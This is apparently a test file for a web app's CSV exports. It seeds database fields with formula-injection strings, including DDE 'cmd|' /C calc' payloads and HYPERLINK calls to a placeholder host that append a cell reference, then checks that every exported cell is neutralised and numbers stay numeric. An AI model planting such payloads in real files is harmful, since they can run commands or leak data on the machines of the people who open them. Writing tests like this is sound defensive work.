import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import Papa from 'papaparse';
import { runResultsExport } from '../../server/results/results-export';
import { TABLES, tablePath } from '../../server/results/export-schema';
import { readZip } from '../support/read-zip';
import { CURRENT_CAMPAIGN_ID } from '../../server/seed/demo-current';
import { DEMO_SITE_ID } from '../support/fixtures';
import { isolatedDatabase } from '../support/isolated-database';
import { demoEmail, signIn, startTestApp, type TestApp } from '../support/test-app';

/**
 * Every CSV the product writes, read as a spreadsheet would: a text cell that starts with =, +, -, @,
 * tab or carriage return runs as a formula (OWASP "CSV Injection"; common practice), so none may,
 * while numbers (a negative flux) stay numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
const LOOKS_LIVE = (v: string) => FORMULA_START.test(v) && !NUMBER.test(v);

/** Text the site's people typed, each starting with a different formula trigger; the original value is kept after it so codes stay unique. */
const HOSTILE: [table: string, column: string, prefix: string][] = [
  ['collar', 'code', '=HYPERLINK("http://x.example/?"&A1,"'],
  ['collar', 'notes', '=1+2 '],
  ['collar', 'status_reason', '@SUM(1+1) '],
  ['plot', 'code', "+cmd|' /C calc'!A0 "],
  ['block', 'code', "-2+3+cmd|' /C calc'!A0 "],
  ['block', 'name', '=1+2 '],
  ['treatment', 'code', "@SUM(1+1)*cmd|' /C calc'!A0 "],
  ['treatment', 'name', '\t=1+2 '],
  ['route', 'name', '\t=1+2 '],
  ['campaign', 'name', '\r=1+2 '],
  ['visit', 'skip_reason', '=HYPERLINK("http://x.example","click") '],
  ['collar_event', 'note', '-1+1 '],
  ['closure', 'review_reason', '=1+2 '],
];

describe('CSV cells never start a formula', () => {
  let t: TestApp;
  let negativeClosureId: string;
  beforeAll(async () => {
    t = await startTestApp({ databaseUrl: await isolatedDatabase('csv_cells') });
    for (const [table, column, prefix] of HOSTILE) {
      await t.ds.query(`UPDATE ${table} SET ${column} = $2 || coalesce(${column}, 'x') WHERE site_id = $1`, [DEMO_SITE_ID, prefix]);
    }
    // Notes and reasons are often empty in the seed: give every row one so each column is exercised.
    await t.ds.query(
      `UPDATE visit SET skipped = true WHERE id = (SELECT id FROM visit WHERE site_id = $1 AND NOT skipped ORDER BY id LIMIT 1)`,
      [DEMO_SITE_ID],
    );
    // An UPDATE answers [rows, count] through TypeORM.
    const [[negative]] = await t.ds.query(
      `UPDATE closure SET flux_umol_m2_s = -0.31 WHERE id = (SELECT id FROM closure WHERE site_id = $1 AND flux_umol_m2_s IS NOT NULL AND review_state <> 'rejected' ORDER BY id LIMIT 1) RETURNING id`,
      [DEMO_SITE_ID],
    );
    negativeClosureId = negative.id;
  });
  afterAll(() => t.close());

  it('when the data package is built from hostile text, then no cell of any of its CSVs is a live formula and numbers stay numbers', async () => {
    const [lab] = await t.ds.query(`SELECT id FROM app_user WHERE email = $1`, [demoEmail('lab')]);
    const jobId = '7d0c0f4e-4c1a-4b7e-9b7e-0c5f7a1d2e30';
    const out = await runResultsExport(
      t.ds,
      { siteId: DEMO_SITE_ID, selection: 'not-rejected', model: 'q10', userId: lab.id, license: 'CC0-1.0' },
      { jobId },
    );
    const [{ bytes }] = await t.ds.query(`SELECT bytes FROM result_export WHERE id = $1`, [out.exportId]);
    const files = await readZip(bytes as Buffer);
    const live: string[] = [];
    let hostileSeen = 0;
    for (const table of TABLES) {
      const text = files.get(tablePath(table.name))!.toString('utf8');
      const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
      const [header, ...rows] = parsed.data;
      expect(header).toEqual(table.fields.map((f) => f.name));
      rows.forEach((row, i) =>
        row.forEach((cell, j) => {
          if (LOOKS_LIVE(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`);
          if (cell.includes('cmd|') || cell.includes('HYPERLINK') || cell.includes('=1+2')) hostileSeen++;
          const type = table.fields[j].type;
          if ((type === 'number' || type === 'integer') && cell !== '') {
            if (!NUMBER.test(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)} is not a number`);
          }
        }),
      );
    }
    expect(live).toEqual([]);
    expect(hostileSeen).toBeGreaterThan(100); // the hostile text did reach the files, as text
    const closures = Papa.parse<Record<string, string>>(files.get(tablePath('closures'))!.toString('utf8'), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(closures.find((c) => c['closure_id'] === negativeClosureId)?.['flux_umol_m2_s']).toBe('-0.31');
    const collars = Papa.parse<Record<string, string>>(files.get(tablePath('collars'))!.toString('utf8'), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(collars[0]['collar_code']).toMatch(/^'=HYPERLINK\("http:\/\/x\.example\/\?"&A1,"/);
  });

  it('when the Board progress CSV is downloaded with hostile codes, names and reasons, then no cell is a live formula', async () => {
    const lead = await signIn(t.app, demoEmail('lead'));
    for (const round of ['1', '']) {
      const res = await lead.get(`/api/campaigns/${CURRENT_CAMPAIGN_ID}/progress.csv${round ? `?round=${round}` : ''}`);
      expect(res.status).toBe(200);
      const [header, ...rows] = Papa.parse<string[]>(res.text, { skipEmptyLines: true }).data;
      expect(rows.length).toBeGreaterThan(40);
      const live = rows.flatMap((row, i) =>
        row.flatMap((cell, j) => (LOOKS_LIVE(cell) ? [`row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`] : [])),
      );
      expect(live).toEqual([]);
      expect(rows.some((r) => r[0].startsWith("'=HYPERLINK("))).toBe(true);
      expect(rows.some((r) => r[1].startsWith("'\t=1+2"))).toBe(true);
    }
  });

  it('when the server sources are read, then CSV text is written only by the shared writer', () => {
    const root = join(__dirname, '..', '..');
    const files = (dir: string): string[] =>
      readdirSync(dir).flatMap((n) => {
        const p = join(dir, n);
        return statSync(p).isDirectory() ? files(p) : /\.ts$/.test(n) && !/\.spec\.ts$/.test(n) ? [p] : [];
      });
    const writers = files(join(root, 'server'))
      .filter((f) => /\bunparse\(|text\/csv/.test(readFileSync(f, 'utf8')))
      .map((f) => relative(root, f))
      .filter((f) => !f.startsWith('server/seed/')); // the seed only names a demo file's media type
    // The progress route sends progressCsv(), which is built with csvLine(); no file serialises CSV its own way.
    expect(writers.sort()).toEqual(['server/board/board-routes.ts', 'server/results/data-package.ts']);
    expect(readFileSync(join(root, 'server/board/progress-csv.ts'), 'utf8')).toContain("from '../../shared/csv/csv-cell'");
    expect(readFileSync(join(root, 'server/results/results-export.ts'), 'utf8')).toContain("from '../../shared/csv/csv-cell'");
  });
});
